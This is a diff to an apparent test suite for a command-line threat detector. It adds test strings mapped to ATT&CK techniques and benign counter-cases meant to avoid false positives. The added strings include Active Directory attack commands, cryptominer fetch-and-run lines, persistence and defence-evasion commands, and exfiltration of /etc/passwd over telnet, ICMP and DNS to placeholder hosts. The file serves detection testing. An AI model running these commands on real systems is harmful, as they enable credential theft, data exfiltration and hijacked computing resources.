@@ -241,6 +241,22 @@ describe('technique shapes added for issue 11 (one per shape, each names its ATT
     ['sysmon uninstall', 'sysmon64.exe -u', 'evasion.security_agent', 'T1562.001'],
     ['office macros on', 'reg add HKCU\\Software\\Microsoft\\Office\\16.0\\Excel\\Security /v VBAWarnings /t REG_DWORD /d 1 /f', 'evasion.office_security', 'T1562.001'],
     ['dns txt command', 'powershell .(nslookup -q=txt cmd.example.net 8.8.8.8)[-1]', 'c2.dns_txt_exec', 'T1071.004'],
+    ['netexec spray', "nxc smb 192.0.2.0/24 -u users.txt -p 'Spring2025!' --continue-on-success", 'tool.ad_attack_cli', 'T1588.002'],
+    ['crackmapexec dump', 'crackmapexec smb 192.0.2.10 -u admin -H aad3b435b51404ee --sam', 'tool.ad_attack_cli', 'T1588.002'],
+    ['rubeus kerberoast', 'Rubeus.exe kerberoast /outfile:hashes.txt', 'tool.ad_attack_cli', 'T1588.002'],
+    ['certipy request', 'certipy req -u user@corp.local -p pass -ca CORP-CA -template User', 'tool.ad_attack_cli', 'T1588.002'],
+    ['enum4linux', 'enum4linux -a 192.0.2.10', 'tool.ad_attack_cli', 'T1588.002'],
+    ['sharphound', 'SharpHound.exe -c All --zipfilename out.zip', 'tool.ad_attack_cli', 'T1588.002'],
+    ['xmrig', './xmrig -o pool.example.net:3333 -u 44Abc --donate-level 1 -B', 'impact.cryptominer', 'T1496'],
+    ['stratum url', 'cfg.pools[0].url = "stratum+tcp://pool.example.net:4444"', 'impact.cryptominer', 'T1496'],
+    ['startup folder by 8.3 name', 'copy upd.bat C:\\Users\\u\\AppData\\Roaming\\Microsoft\\Windows\\Startm~1\\Programs\\Startup\\upd.bat', 'persist.startup_script', 'T1547.001'],
+    ['firewall service stopped', 'net stop MpsSvc', 'evasion.security_agent', 'T1562.001'],
+    ['passwd to telnet', 'cat /etc/passwd | base64 | telnet 192.0.2.7 5555', 'exfil.raw_channel', 'T1048.003'],
+    ['icmp payload exfil', 'base64 /etc/passwd | xxd -ps -c 16 | while read i; do ping -c1 -s32 -p $i 192.0.2.7; done', 'exfil.raw_channel', 'T1048.003'],
+    ['dns label exfil', 'for l in `cat /etc/passwd`; do dig $l.exfil.example.net; done', 'exfil.raw_channel', 'T1048.003'],
+    ['gatekeeper off', 'sudo spctl --master-disable', 'evasion.gatekeeper_off', 'T1553.001'],
+    ['timestomp', "$f=(gi .\\a.exe);$d='01/03/2006 12:12 pm';$f.LastWriteTime=$d;$f.CreationTime=$d", 'evasion.timestomp', 'T1070.006'],
+    ['miner fetched and run', 'wget https://example.net/xmrig-6.1-linux-x64.tar.gz; tar -xf xmrig-6.1-linux-x64.tar.gz; ./xmrig-6.1/xmrig', 'impact.cryptominer', 'T1496'],
   ])('%s', (_n, text, id, tech) => {
     const f = technique(text, id);
     expect(f).toBeDefined();
@@ -287,6 +303,15 @@ describe('benign counter-cases for the added shapes stay at low or below', () =>
     ['zone identifier read', 'Get-Content .\\setup.exe -Stream Zone.Identifier'],
     ['reflection read', "$v = $o.GetType().GetField('_items','NonPublic,Instance').GetValue($o)"],
     ['file server installer', 'Start-Process \\\\files.corp.example\\deploy\\agent.msi -ArgumentList /qn'],
+    ['hosts file backup over nc to a file', 'nc -l 9000 > hosts.bak'],
+    ['dig a list of hosts', 'for h in $(cat hosts.txt); do dig +short $h.example.org; done'],
+    ['copy a log shipper to the startup folder is low alone', 'copy agent.lnk "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\agent.lnk"'],
+    ['touch a file time', '(Get-Item .\\build.log).LastWriteTime = Get-Date'],
+    ['gatekeeper status', 'spctl --status'],
+    ['cme is also a build tool name', 'cme build --release ./project'],
+    ['certificate helper named certify', 'npm run certify -- --domain example.org'],
+    ['miner mentioned in a policy note', 'Write-Host "Block xmrig and other miners in the proxy policy"'],
+    ['seatbelt word in prose', 'Write-Output "Check the seatbelt sensor data"'],
   ])('%s', (_n, text) => {
     expect(['info', 'low']).toContain(worst(text));
   });
